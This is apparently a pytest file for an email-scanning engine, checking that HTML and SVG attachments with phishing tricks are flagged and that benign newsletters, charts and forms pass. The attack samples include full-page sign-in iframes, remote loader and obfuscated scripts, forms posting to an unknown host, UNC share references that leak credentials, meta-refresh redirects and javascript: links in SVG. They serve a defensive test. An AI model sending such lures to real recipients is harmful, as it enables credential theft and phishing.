"""Pages and drawings that come by mail and are there for a click, and those that show what they are about."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine

ENGINE = Engine()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 40">%s</svg>'


def mailed(page: str, name: str = "a.html") -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@supplier.example", "b@hospital.example", "Document"
    mail["Date"], mail["Message-ID"] = "Wed, 04 Nov 2026 09:12:00 +0100", "<1@supplier.example>"
    mail.set_content("Please find the document attached.\n")
    kind = "svg+xml" if name.endswith("svg") else "html"
    mail.add_attachment(page.encode(), maintype="text" if kind == "html" else "image", subtype=kind, filename=name)
    return mail.as_bytes()


ATTACKS = {
    "another's page over the whole": '<body><iframe src="https://sign-in.example/" width="100%"></iframe>',
    "a set of frames": '<frameset cols="100%"><frame src="https://webmail.example/owa"></frameset>',
    "nothing until a script came": '<html><script src="https://assets.example/loader.js"></script></html>',
    "nothing until it was decoded": "<html><script>document.body.append(x.decrypt(a, k, v))</script></html>",
    "words written backwards": '<script>document["write"]("pirc".split("").reverse().join(""))</script>',
    "a form to someone unknown": '<html><form action="https://kit.example"><input value="bo@hospital.example"></form>',
    "a call": "<p>You paid $649.99. If you did not authorize this payment call us at +1 (877) 555-0170.</p>",
    "a share": '<p>Bill</p><img src="file://185.1.2.3/s/p.png" width=1>',
    "a share in a style": r'<style>@import url("\\\\185.1.2.3\\s\\a.css");</style><p>Bill</p>',
    "a page that anyone can set up": '<meta http-equiv="refresh" content="0;url=https://a9f.pages.dev/">',
    "letters that nobody sees": "<p>Bill</p><script>f(`" + "\u3164\uffa0" * 40 + "`)</script>",
}
DRAWINGS = {
    "an address in numbers": SVG % "<a xlink:href=\"java&#115;cript:location='//a.example'\"><rect/></a>",
    "a picture under a link": SVG
    % '<a xlink:href="https://a9f.pages.dev/v"><image href="data:image/png;base64,AA"/></a>',
    "another's style": '<?xml-stylesheet type="text/xsl" href="https://a.example/a.xsl"?>' + SVG % "",
}
HONEST = {
    "a newsletter": '<h1>News</h1><p>Three trials are open.</p><a href="https://www.hospital.example/news">Read on</a>',
    "a chart": '<div id=g></div><script src="https://cdn.plot.ly/plotly-2.min.js"></script><p>Admissions by month</p>',
    "a film": '<p>Film</p><iframe width=560 height=315 src="https://www.youtube-nocookie.com/embed/a"></iframe>',
    "a survey": '<form action="mailto:study@hospital.example"><input name=pain type=range></form><p>How strong?</p>',
    "a bill that prints": "<h1>Bill 2026-11</h1><p>Total 120 EUR</p><button onclick='window.print()'>Print</button>",
}
PLAN = SVG % '<a href="https://www.diagrams.example/doc"><text>Text is not SVG</text></a><text>Ward</text>'


@pytest.mark.parametrize("page", ATTACKS.values(), ids=ATTACKS)
def test_pages_that_are_there_for_something_else(page: str) -> None:
    assert ENGINE.judge(mailed(page), "a.eml").verdict is not Verdicts.CLEAN


@pytest.mark.parametrize("page", DRAWINGS.values(), ids=DRAWINGS)
def test_drawings_that_are_there_for_something_else(page: str) -> None:
    assert ENGINE.judge(mailed(page, "a.svg"), "a.eml").verdict is not Verdicts.CLEAN


@pytest.mark.parametrize("page", HONEST.values(), ids=HONEST)
def test_pages_that_show_what_they_are_about(page: str) -> None:
    assert ENGINE.judge(mailed(page), "a.eml").verdict is Verdicts.CLEAN
    assert ENGINE.judge(page.encode(), "a.html").verdict is Verdicts.CLEAN


def test_a_plan_may_lead_to_its_maker() -> None:
    assert ENGINE.judge(mailed(PLAN, "a.svg"), "a.eml").verdict is Verdicts.CLEAN
